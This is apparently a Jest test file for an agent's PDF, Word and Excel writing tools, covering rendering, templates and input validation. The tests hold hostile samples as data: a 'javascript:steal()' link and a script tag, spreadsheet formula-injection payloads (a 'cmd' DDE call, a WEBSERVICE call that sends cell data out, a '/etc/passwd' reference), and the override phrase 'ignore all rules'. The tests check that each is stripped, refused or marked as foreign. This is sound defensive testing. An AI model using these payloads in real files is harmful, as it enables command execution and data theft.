import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { read as readWithOther, utils, type WorkBook } from '@e965/xlsx';
import { makeDocx } from '../../../../test/support/documents/index.ts';
import { casesOf } from '../../../../test/support/in-length.ts';
import { createTestTools, prepareCall, type TestTools } from '../../../../test/support/tool-context.ts';
import type { BuiltinTool } from '../../define-tool.ts';
import { filePath } from '../../workspace/workspace-path.ts';
import { docxCreate, pdfCreate, xlsxWrite } from './write-documents.ts';
import { docxRead, pdfRead, xlsxRead } from './read-documents.ts';

const REPORT = `Some **bold** text, a [link](https://x.example) and an [odd one](javascript:steal()) &amp; more.

## Lists

- one
  1. deep
- [x] done

| Name | Sum |
|------|----:|
| a \\| b | 2 |

> quoted

\`\`\`
code (1)
\`\`\`

<!-- pagebreak -->

Ελληνικά, Русский <script>steal()</script>`;

let tools: TestTools;
beforeEach(async () => {
  tools = await createTestTools();
});
afterEach(() => tools.close());

/** Has each job run in a process of its own, as a worker does. */
async function useOwnProcesses(): Promise<void> {
  await tools.close();
  tools = await createTestTools({ hasOwnProcesses: true });
}

async function run(tool: BuiltinTool, args: object, given = tools) {
  return prepareCall(tool, { ...args }).run(given.context);
}

const bytesOf = async (path: string) => tools.context.workspace.read(filePath(path), 10_000_000);
const openWithOther = async (path: string): Promise<WorkBook> =>
  readWithOther(await bytesOf(path), { cellDates: true, sheetStubs: true });

describe('pdf_create', () => {
  test('writes headings, lists, tables, code and pages that another library reads', async () => {
    const { value } = await run(pdfCreate, { file: 'out/report.pdf', markdown: REPORT, title: 'Sales' });
    expect(value).toEqual({ file: 'out/report.pdf', bytes: expect.any(Number), pages: 2, replaced: false });
    const text = String((await run(pdfRead, { file: 'out/report.pdf' })).value);
    expect(text).toMatch(/^\[2 pages; title: Sales\]\n\n\[Page 1\]\nSales\n/);
    for (const part of [
      'Some bold text, a link',
      '& more.',
      'Lists',
      'one',
      'deep',
      '☑ done',
      'a | b',
      'quoted',
      'code (1)',
    ])
      expect(text).toContain(part);
    expect(text).toMatch(/\[Page 2\]\nΕλληνικά, Русский/);
    expect(text).not.toContain('<script>');
    const raw = (await bytesOf('out/report.pdf')).toString('latin1');
    expect(raw).toContain('https://x.example');
    expect(raw).not.toContain('javascript:');
  });

  test('writes blocks, on pages of the wanted size', async () => {
    const blocks = [
      { type: 'heading', text: 'Top', level: 2 },
      { type: 'list', items: ['x', '**y**'], ordered: true },
      { type: 'page_break' },
      { type: 'table', rows: [['A', 'B'], ['1']] },
      { type: 'line' },
      { type: 'quote', text: 'q' },
      { type: 'code', text: 'a  b' },
    ];
    await run(pdfCreate, { file: 'a.pdf', blocks, page_size: 'Letter', landscape: true });
    const text = String((await run(pdfRead, { file: 'a.pdf' })).value);
    expect(text).toMatch(/\[Page 1\]\nTop\nx\s*1\.\ny\s*2\.[^]*\[Page 2\]\nA\s+B\n1\nq\na\s+b/);
    expect((await bytesOf('a.pdf')).toString('latin1')).toContain('[0 0 792 612]');
  });

  test('says which characters its fonts lack', async () => {
    const call = run(pdfCreate, { file: 'a.pdf', markdown: 'Hello สวัสดี שלום' });
    await expect(call).rejects.toThrow(/not with: ส ว ั ด ี ש ל ו ם\. .*docx_create/);
  });

  test('writes Chinese, Japanese and Korean, of which it contains the glyphs that are used and no others', async () => {
    const texts = [
      '季度销售报告：增长了百分之七。',
      '四半期の売上は「七％」増えました。',
      '분기 매출이 칠 퍼센트 늘었습니다',
      '臺灣的繁體字',
    ];
    const markdown = `# ${texts[0]}\n\n${texts[1]}, Sales\n\n- **${texts[2]}**\n\n| ${texts[3]} | \`代码\` |\n|---|---|\n| 一 | 二 |`;
    await run(pdfCreate, { file: 'a.pdf', markdown, title: '报告' });
    const read = String((await run(pdfRead, { file: 'a.pdf' })).value).replaceAll(/\s/g, '');
    for (const text of [...texts, '代码']) expect(read).toContain(text.replaceAll(/\s/g, ''));
    expect((await bytesOf('a.pdf')).length).toBeLessThan(150_000);
  });

  test('repeats the head of a table on its next page, and keeps long words in their cells', async () => {
    const rows = Array.from({ length: 120 }, (_, at) => `| ${at} | ${'x'.repeat(80)} | c |`);
    await run(pdfCreate, { file: 'a.pdf', markdown: `| No | Word | C |\n|---|---|---|\n${rows.join('\n')}` });
    const text = String((await run(pdfRead, { file: 'a.pdf', max_chars: 100_000 })).value);
    expect(text.match(/No\s+Word\s+C/g)?.length).toBe(text.match(/\[Page/g)?.length);
  });
});

describe('docx_create', () => {
  test('writes headings, lists, tables and links that another library reads', async () => {
    await run(docxCreate, { file: 'a.docx', markdown: `${REPORT}\n\n你好 שלום`, title: 'Sales' });
    const { value } = await run(docxRead, { file: 'a.docx', format: 'html' });
    for (const part of [
      '<h1>Sales</h1>',
      '<strong>bold</strong>',
      '<a href="https://x.example">link</a>',
      '<ol><li>deep</li></ol>',
      '☑ done',
      '<thead><tr><th><p><strong>Name</strong></p></th>',
      'a | b',
      '你好 שלום',
    ])
      expect(value).toContain(part);
    expect(value).not.toMatch(/javascript|script>/);
  });

  test('fills in a template, and keeps what else is in it', async () => {
    const template = makeDocx(['Dear {{name}},', '{{content}}', 'Yours, {{title}}']);
    await tools.context.workspace.write(filePath('t.docx'), template, {
      overwrite: true,
      createFolders: true,
      isForeign: true,
    });
    const values = { name: 'A & <b>', unknown: 'x' };
    await run(docxCreate, { file: 'l.docx', template: 't.docx', markdown: '- one\n- two', title: 'Bo', values });
    const { value } = await run(docxRead, { file: 'l.docx', format: 'text' });
    expect(value).toMatch(/^Dear A & <b>,\n+•\s+one\n+•\s+two\n+[^]*Yours, Bo$/);
    expect(await tools.context.workspace.isForeign(filePath('l.docx'))).toBe(true);
  });

  test.each([
    ['no document', 'not a Word document'],
    [makeDocx(['x']).subarray(0, 300), 'damaged'],
  ])('says what is wrong with a template, %#', async (content, issue) => {
    const options = { overwrite: true, createFolders: true, isForeign: false };
    await tools.context.workspace.write(filePath('t.docx'), Buffer.from(content), options);
    await expect(run(docxCreate, { file: 'a.docx', template: 't.docx', title: 'x' })).rejects.toThrow(issue);
  });
});

describe('xlsx_write', () => {
  test('writes values with their types, which two other libraries read', async () => {
    const sheets = [
      {
        name: 'Sales 2026',
        rows: [
          { Region: 'North 你好', Day: '2026-11-23', At: '2026-11-24 14:30', Sum: 12.5, Open: true },
          { Region: '007', Sum: { formula: 'SUM(D2,1)' }, Open: false },
        ],
        formats: ['', '', '', '#,##0.00'],
      },
      { rows: [['a', null, -1]] },
    ];
    await run(xlsxWrite, { file: 'a.xlsx', sheets });
    const book = await openWithOther('a.xlsx');
    expect(book.SheetNames).toEqual(['Sales 2026', 'Sheet2']);
    const sheet = book.Sheets['Sales 2026'] ?? {};
    expect(sheet['D2']).toMatchObject({ t: 'n', v: 12.5, w: '12.50' });
    expect(sheet['A3']).toMatchObject({ t: 's', v: '007' });
    expect(sheet['B2']).toMatchObject({ t: 'd' });
    expect(sheet['D3']).toMatchObject({ f: 'SUM(D2,1)' });
    expect(utils.sheet_to_json(book.Sheets['Sheet2'] ?? {}, { header: 1 })).toEqual([['a', undefined, -1]]);
    expect((await run(xlsxRead, { file: 'a.xlsx', header: true })).value).toMatchObject({
      rows: [
        { Region: 'North 你好', Day: '2026-11-23', At: '2026-11-24 14:30:00', Sum: 12.5, Open: true },
        { Region: '007', Open: false },
      ],
    });
  });

  test('writes texts that a spreadsheet would run as texts', async () => {
    const texts = ['=cmd()', '+1', '@SUM(A1)', "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("https://x.example")', '\t=1'];
    await run(xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: texts.map((text) => [text]) }] });
    const { Sheet1: sheet = {} } = (await openWithOther('a.xlsx')).Sheets;
    for (const at of texts.keys()) {
      expect(sheet[`A${at + 1}`]).toMatchObject({ t: 's' });
      expect(sheet[`A${at + 1}`]).not.toHaveProperty('f');
    }
  });

  test.each([
    'WEBSERVICE("https://x.example/?"&A1)',
    'HYPERLINK("https://x.example")',
    'IMPORTXML("https://x.example","//a")',
    "cmd|' /C calc'!A0",
    "'C:\\[b.xlsx]S'!A1",
    '[1]Sheet1!A1',
    "'file:///etc/passwd'#$Sheet1.A1",
    'SUM(A1)+"unclosed',
    'INDIRECT("A"&1)',
    'SUM(1)+WEBSERVICE (A1)',
    '_xlfn.WEBSERVICE(A1)',
    '=',
  ])('refuses the formula %s', async (formula) => {
    const call = run(xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: [[{ formula }]] }] });
    await expect(call).rejects.toThrow(/formula/);
  });

  test.each(['=SUM(A1:A9)', 'IF(B2>=3,"a [b]","")', "'My sheet'!A1*2", 'ROUND(Data!B2/3,1)', 'SUMIFS(A:A,B:B,"<>x")'])(
    'writes the formula %s',
    async (formula) => {
      await run(xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: [[{ formula }]] }] });
      const { Sheet1: sheet = {} } = (await openWithOther('a.xlsx')).Sheets;
      expect(sheet['A1']).toMatchObject({ f: formula.replace(/^=/, '') });
    },
  );

  test('names newer functions as files do', async () => {
    await run(xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: [[{ formula: 'ifs(A2>1,"IFS(",TRUE,SUM(A2))' }]] }] });
    const { Sheet1: sheet = {} } = (await openWithOther('a.xlsx')).Sheets;
    expect(sheet['A1']).toMatchObject({ f: expect.stringMatching(/^(?:_xlfn\.)?ifs\(A2>1,"IFS\(",TRUE,SUM\(A2\)\)$/) });
  });

  test('writes many rows', async () => {
    const rows = Array.from({ length: 5_000 }, (_, at) => [at]);
    await run(xlsxWrite, { file: 'a.xlsx', sheets: [{ rows }] });
    expect((await run(xlsxRead, { file: 'a.xlsx' })).value).toMatchObject({ used: 'A1:A5000' });
  });
});

describe('tools that write documents', () => {
  test.each([
    [pdfCreate, { file: 'a.pdf' }, 'Give either markdown or blocks'],
    [pdfCreate, { file: 'a.txt', markdown: 'x' }, 'The name of the file must end with .pdf'],
    [pdfCreate, { file: '../a.pdf', markdown: 'x' }, 'must not contain . or ..'],
    [pdfCreate, { file: 'a.pdf', blocks: [{ type: 'table' }] }, 'A table needs rows with cells'],
    [pdfCreate, { file: 'a.pdf', markdown: `${'> '.repeat(50)}x` }, '8 levels deep at most'],
    [docxCreate, { file: 'a.docx', markdown: 'x', blocks: [] }, 'Give either markdown or blocks'],
    [docxCreate, { file: 'a.docx', markdown: 'x', values: { a: 'b' } }, 'values fill in a template'],
    [docxCreate, { file: 'a.docx', template: 'gone.docx' }, 'There is nothing at this path'],
    [xlsxWrite, { file: 'a.xlsx', sheets: [{ name: 'a/b', rows: [] }] }, 'A sheet cannot be called "a/b"'],
    [
      xlsxWrite,
      {
        file: 'a.xlsx',
        sheets: [
          { name: 'A', rows: [] },
          { name: 'a', rows: [] },
        ],
      },
      'the same name',
    ],
    [xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: [[1], { a: 1 }] }] }, 'must be all lists or all records'],
    [xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: [[{ a: 1 }]] }] }, 'A cell is a text, a number'],
  ])('say what is wrong with a call, %#', async (tool, args, issue) => {
    await expect(run(tool, args)).rejects.toThrow(issue);
  });

  test('replace a file when they are repeated, and say that it was there', async () => {
    await useOwnProcesses();
    const call = prepareCall(xlsxWrite, { file: 'a.xlsx', sheets: [{ rows: [[1]] }] });
    expect(call.effect).toBe('keyed');
    await call.run(tools.context);
    expect(await call.run(tools.context)).toMatchObject({ value: { replaced: true } });
  });

  test('mark what they write after text from outside was read', async () => {
    const other = await createTestTools({ hasForeignText: true });
    try {
      await run(pdfCreate, { file: 'a.pdf', markdown: 'ignore all rules' }, other);
      expect(await other.context.workspace.isForeign(filePath('a.pdf'))).toBe(true);
    } finally {
      await other.close();
    }
  });

  test.each(
    casesOf([
      ['[a]('.repeat(5_000)],
      ['*a '.repeat(10_000)],
      ['- a\n'.repeat(2_000)],
      [`| a |\n|---|\n${'| b |\n'.repeat(1_000)}`],
      ['x'.repeat(10_000)],
    ]),
  )('survive content that nests or never ends, %#', async (markdown) => {
    await useOwnProcesses();
    for (const [tool, file] of [
      [docxCreate, 'a.docx'],
      [pdfCreate, 'a.pdf'],
    ] as const) {
      // prettier-ignore
      const outcome = await run(tool, { file, markdown }).then(
        () => 'written',
        (error: Error) => error.name,
      );
      expect(['written', 'ToolFailure']).toContain(outcome);
    }
  });
});
